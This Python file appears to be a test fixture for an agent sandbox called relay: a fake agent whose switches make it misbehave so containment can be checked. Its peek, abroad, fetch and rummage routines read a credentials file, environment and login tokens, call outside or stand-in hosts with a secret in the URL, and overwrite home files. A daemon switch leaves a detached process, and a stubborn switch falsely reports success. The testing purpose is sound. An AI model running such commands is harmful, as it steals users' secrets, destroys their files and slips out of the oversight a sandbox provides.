"""An agent that is told by its environment how to lie; run as a program of its own, in relay's sandbox.

It speaks the protocol, asks the endpoint as the agents do, runs ``bash`` and has relay's tools from the server that it
is told to start. FAKE_LIES is a list of words:

noise       unknown kinds, unknown methods, lines that are none, a line of three megabytes
title       a request without tools before its first turn
stubborn    says end_turn whatever the endpoint answered (the others say it only when all is well)
dies        ends in the middle of a line when its first turn begins
idle        ends its turn without asking the endpoint
daemon      leaves a process that writes to the repository
big         tells of a context that is over every line
patient     waits for a cancel before each answer but the first
fetch       has the endpoint fetch an address, twice, and writes what it is told into fetch.txt
abroad      writes what it can see of a login and of other hosts into abroad.txt
peek        writes what it can see of keys and of the world into peek.txt
rummage     writes all files of its home directory into rummage.json, and spoils them
"""

import http.client
import json
import os
import subprocess
import sys
import threading
import urllib.parse
from pathlib import Path
from typing import Any

LIES = os.environ.get("FAKE_LIES", "").split()
BASE = urllib.parse.urlsplit(os.environ.get("FAKE_BASE", ""))
"""Empty where it asks its vendor itself: `ALONE` says what is answered then."""
BASH = {"name": "bash", "description": "run", "input_schema": {"type": "object"}}
CANCELLED = threading.Event()
SAYING = threading.Lock()


def say(message):
    with SAYING:
        sys.stdout.write(json.dumps({"jsonrpc": "2.0", **message}) + "\n")
        sys.stdout.flush()


def update(**fields):
    say({"method": "session/update", "params": {"sessionId": "s1", "update": fields}})


class Tools:
    """relay's tool server, as a client of it."""

    def __init__(self, server):
        self.peer: Any = subprocess.Popen(
            [server["command"], *server["args"]], stdin=subprocess.PIPE, stdout=subprocess.PIPE
        )
        self.ask("server/discover", {})
        self.ask("initialize", {"protocolVersion": "2025-06-18"})
        self.known = self.ask("tools/list", {})["result"]["tools"]

    def ask(self, method, params):
        self.peer.stdin.write(
            json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params}).encode() + b"\n"
        )
        self.peer.stdin.flush()
        return json.loads(self.peer.stdout.readline())

    def call(self, name, given):
        result = self.ask("tools/call", {"name": name, "arguments": given})["result"]
        return result["content"][0]["text"], result["isError"]


def post(body):
    """Return status and content blocks of the answer."""
    if not BASE.netloc:
        return answer_alone(body)
    connection = http.client.HTTPConnection(BASE.hostname or "", BASE.port, timeout=60)
    headers = {
        "content-type": "application/json",
        "x-api-key": os.environ.get("FAKE_TOKEN", "held-by-relay"),
        "anthropic-version": "2023-06-01",
    }
    connection.request("POST", "/v1/messages", json.dumps(body), headers)
    response = connection.getresponse()
    try:
        text = response.read().decode()
    except http.client.IncompleteRead:
        return 0, "the answer broke off"
    if response.status != 200:
        return response.status, text
    return 200, collect(text)


ALONE: list[Any] = [
    [{"type": "text", "text": "I write."}, {"type": "tool_use", "id": "c1", "name": "bash",
      "input": {"command": "echo hello > hello.txt"}}],
    [{"type": "tool_use", "id": "c2", "name": "tick", "input": {"item": "1.1", "evidence": "seen"}}],
    [{"type": "text", "text": "Done.\n\nCommit: say hello"}],
]  # fmt: skip


def answer_alone(body):
    """Return what the vendor would answer, and tell how full the context is."""
    said = sum(message["role"] == "assistant" for message in body["messages"])
    if "patient" in LIES and said:
        CANCELLED.wait(2)
    update(sessionUpdate="usage_update", used=90_000 if "big" in LIES else 20_000 + 2_000 * said, size=1_000_000)
    return 200, ALONE[min(said, len(ALONE) - 1)]


def collect(text):
    blocks = []
    for line in text.splitlines():
        event = json.loads(line[5:]) if line.startswith("data:") else {}
        if event.get("type") == "content_block_start":
            blocks.append({**event["content_block"], "partial": ""})
        delta = event.get("delta", {})
        if event.get("type") == "content_block_delta":
            for name in ("text", "thinking", "signature"):
                if name in delta:
                    blocks[-1][name] = blocks[-1].get(name, "") + delta[name]
            blocks[-1]["partial"] += delta.get("partial_json", "")
    for block in blocks:
        partial = block.pop("partial")
        if block["type"] == "tool_use":
            block["input"] = json.loads(partial or "{}")
    return blocks


def run_tool(tools, block):
    call, given = block["id"], block["input"]
    update(sessionUpdate="tool_call", toolCallId=call, title=block["name"], kind="execute", status="pending")
    update(sessionUpdate="tool_call_update", toolCallId=call, rawInput=given, status="in_progress")
    if block["name"] == "bash":
        done = subprocess.run(["bash", "-c", given["command"]], capture_output=True, text=True, check=False)
        text, failed = done.stdout + done.stderr, done.returncode != 0
    else:
        text, failed = tools.call(block["name"], given)
    update(sessionUpdate="tool_call_update", toolCallId=call, status="completed", rawOutput=text)
    return {"type": "tool_result", "tool_use_id": call, "content": text or "(none)", "is_error": failed}


def work(tools, history, prompt):
    """Work on a prompt; return the stop reason, or an error."""
    history.append({"role": "user", "content": [{"type": "text", "text": prompt}]})
    while True:
        body = {"model": os.environ["FAKE_MODEL"], "stream": True, "messages": history, "max_tokens": 4_000}
        body["tools"] = [
            BASH,
            *({"name": t["name"], "description": "", "input_schema": t["inputSchema"]} for t in tools.known),
        ]
        status, found = post(body)
        if CANCELLED.is_set():
            CANCELLED.clear()
            return {"result": {"stopReason": "cancelled"}}
        if status != 200:
            update(sessionUpdate="agent_message_chunk", content={"type": "text", "text": f"API Error {status} {found}"})
            lie = {"result": {"stopReason": "end_turn", "usage": {"inputTokens": 7}}}
            return lie if "stubborn" in LIES else {"error": {"code": -32603, "message": f"status {status}"}}
        history.append({"role": "assistant", "content": found})
        for block in found:
            if block["type"] == "text":
                update(sessionUpdate="agent_message_chunk", content={"type": "text", "text": block["text"]})
        calls = [block for block in found if block["type"] == "tool_use"]
        if not calls:
            used = {"inputTokens": 30, "outputTokens": 20, "cachedReadTokens": 1000, "cachedWriteTokens": 200}
            told = {} if BASE.netloc else {"usage": used}
            return {"result": {"stopReason": "end_turn", **told}}
        history.append({"role": "user", "content": [run_tool(tools, block) for block in calls]})


def make_noise():
    update(sessionUpdate="from_the_future", anything=[1, 2])
    update(sessionUpdate="usage_update", used=1, size=1_000_000)
    say({"method": "_auth/status_update", "params": {"x": 1}})
    say({"id": "q1", "method": "fs/write_text_file", "params": {"path": "/x", "content": "y"}})
    with SAYING:
        sys.stdout.write("Warning: this is no JSON\n[1, 2]\n\n" + "x" * 3_000_000 + "\n")
    update(sessionUpdate="agent_message_chunk", content={"type": "text", "text": "y" * 3_000_000})


def peek(root):
    seen = [f"{name}={value}" for name, value in os.environ.items()]
    for command in (
        "git commit -am stolen",
        "echo x > PLAN.md",
        "echo x > .git/config",
        "cat ~/.claude/.credentials.json",
        "curl -s -m 2 http://10.0.0.1/",
        f"curl -s http://{BASE.netloc}/v1/files -X POST -d x",
    ):
        done = subprocess.run(command, shell=True, capture_output=True, text=True, check=False, cwd=root)
        seen.append(f"{command}: {done.returncode} {done.stdout}")
    Path(root, "peek.txt").write_text("\n".join(seen))


def go_abroad(root):
    """Ask two hosts, as far as the way out lets it."""
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    seen = [os.environ.get("FAKE_TOKEN", ""), Path(os.environ["HOME"], ".fake/login.json").read_text()]
    for host in ("elsewhere.example.org", "vendor.invalid"):
        connection = http.client.HTTPSConnection(proxy.hostname or "", proxy.port, timeout=20)
        connection.set_tunnel(host, 443)
        try:
            connection.connect()
        except OSError as error:
            seen.append(f"{host}: {error}")
    Path(root, "abroad.txt").write_text("\n".join(seen))


def have_fetched(root):
    picture = {"type": "image", "source": {"type": "url", "url": "http://elsewhere.example/?SECRET"}}
    body = {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": [picture]}]}
    Path(root, "fetch.txt").write_text(str([post(body), post(body)]))


def rummage(root):
    """Note path, mode and text of each file at home, then write to all of them."""
    home, seen = Path(os.environ["HOME"]), {}
    for path in sorted(home.rglob("*")):
        if path.is_file():
            seen[str(path.relative_to(home))] = [oct(path.stat().st_mode & 0o777), path.read_text()]
            path.chmod(0o700)
            path.write_text("spoiled")
    Path(root, "rummage.json").write_text(json.dumps(seen))


def begin_turn(root):
    for lie, tell in (("abroad", go_abroad), ("peek", peek), ("fetch", have_fetched), ("rummage", rummage)):
        if lie in LIES:
            tell(root)
    if "dies" in LIES:
        sys.stdout.write('{"jsonrpc": "2.0", "method": "session/upd')
        sys.stdout.flush()
        os.write(2, b"the reason is here\n")
        os._exit(9)
    if "noise" in LIES:
        make_noise()
    if "title" in LIES:
        post({"model": os.environ["FAKE_MODEL"], "max_tokens": 100, "stream": True,
              "messages": [{"role": "user", "content": "make a title"}]})  # fmt: skip
    if "daemon" in LIES:
        writes = f"while :; do date +%s%N > {root}/beat.txt; sleep 0.005; done"
        subprocess.Popen(["bash", "-c", writes], start_new_session=True)


def main():
    tools, root = None, ""
    history: list[Any] = []
    for line in sys.stdin:
        asked = json.loads(line)
        number, params = asked.get("id"), asked.get("params", {})
        match asked.get("method"):
            case "initialize":
                say({"id": number, "result": {"protocolVersion": 1, "agentInfo": {"name": "fake", "version": "9.9"}}})
            case "session/new":
                root, tools = params["cwd"], Tools(params["mcpServers"][0])
                say({"id": number, "result": {"sessionId": "s1"}})
            case "session/prompt":
                CANCELLED.clear()  # one that came when the turn had ended already
                threading.Thread(target=answer, args=(number, tools, root, history, params), daemon=True).start()
            case "session/cancel":
                CANCELLED.set()
            case _:
                pass


def answer(number, tools, root, history, params):
    if not history:
        begin_turn(root)
    if "idle" in LIES:
        say({"id": number, "result": {"stopReason": "end_turn"}})
        return
    said = work(tools, history, params["prompt"][0]["text"])
    say({"id": number, **said})
    update(sessionUpdate="usage_update", used=99, size=1_000_000)


if __name__ == "__main__":
    main()
